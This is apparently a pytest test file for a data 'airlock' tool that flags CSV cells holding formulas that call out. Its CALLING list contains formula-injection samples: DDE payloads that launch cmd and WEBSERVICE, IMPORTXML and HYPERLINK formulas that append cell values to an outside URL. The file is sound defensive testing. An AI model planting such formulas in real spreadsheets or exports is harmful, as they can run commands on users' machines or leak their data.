"""Formulas that call out, in cells of delimited text of any length."""

from __future__ import annotations

import pytest

from sdc_airlock.identify import identify
from sdc_airlock.limits import Limits
from sdc_airlock.model.content import OddityKind
from sdc_airlock.readers import read
from sdc_airlock.readers._formulas import calls_out
from sdc_airlock.source import Source

CALLING = [
    '=WEBSERVICE("https://example.org/?"&B2)',
    '=IMPORTXML(CONCATENATE("https://example.org/?",A1),"//a")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://example.org/?"&A1,"open")',
    '=hyperlink(concat("https://example.org/",A1),"open")',
    '=DDE("cmd","/C calc","x")',
    '=IMAGE("https://example.org/x.png")',
    "=RTD(B1,,C1)",
]
PLAIN = [
    "-log10(p)",
    "+ BMI (kg/m2)",
    "- Call (by two readers)",
    "=SUM(A1:A3)",
    '=HYPERLINK("https://example.org/paper","paper")',
    '=HYPERLINK("#Sheet2!A"&B1,"go")',
    "@ 5 mg (daily)",
    "-0.35 (-0.40; -0.30)",
    "= reference",
    "see|also (here)",
]


def counted(text: str, *, table_bytes: int = Limits().table_bytes) -> int:
    """Cells that call out, as the reader of delimited text counts them."""
    source = Source.of_bytes(text.encode(), part_id="t.csv", name="t.csv")
    content = read(source, identify(source), file_id="", limits=Limits(table_bytes=table_bytes))
    return sum(oddity.size or 0 for oddity in content.oddities if oddity.kind is OddityKind.CALLING_FORMULA)


def quoted(cell: str) -> str:
    """A cell as CSV writes it."""
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("cell", CALLING)
def test_calls_are_counted(cell: str) -> None:
    """Each cell that fetches, sends or starts something is counted, whatever sign it begins with."""
    assert counted(f"region,cases,more\nNorth,120,{quoted(cell)}\nSouth,95,none\n") == 1


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_cells_are_not(cell: str) -> None:
    """Signs before words and numbers, sums and fixed links call nothing."""
    assert counted(f"region,cases,more\nNorth,120,{quoted(cell)}\nSouth,95,none\n") == 0


@pytest.mark.no_cover
def test_calls_far_down_a_long_table_are_counted() -> None:
    """A table too long to hold is gone through to its end, and each call in it counted."""
    rows = [f"ward {number},{100 + number},see (note) {number}" for number in range(40_000)]
    for place, cell in enumerate(CALLING):
        rows[39_000 + 50 * place] = f"ward x,120,{quoted(cell)}"
    assert counted("region,cases,more\n" + "\n".join(rows) + "\n", table_bytes=65_536) == len(CALLING)


def test_formulas_of_workbooks() -> None:
    """In a workbook every formula is one, so a blank before the bracket does not matter."""
    assert calls_out('WEBSERVICE ("https://example.org/")')
    assert calls_out("IF(A1>2,_xlfn.WEBSERVICE(B1),0)")
    assert not calls_out("SUM(A1:A3)*RECALL(B1)")
    assert not calls_out("A1&B1")
